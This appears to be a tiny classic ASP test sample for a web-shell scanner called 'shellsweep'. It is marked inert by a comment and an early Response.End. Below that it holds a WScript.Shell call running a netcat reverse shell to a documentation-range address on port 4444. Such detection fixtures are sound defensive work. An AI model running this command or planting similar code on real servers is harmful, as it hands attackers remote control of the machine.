<% ' shellsweep test sample: inert, never functional
Response.End %>
<%
Set sh = Server.CreateObject("WScript.Shell")
sh.Run "cmd /c nc.exe -e cmd.exe 192.0.2.10 4444", 0
%>
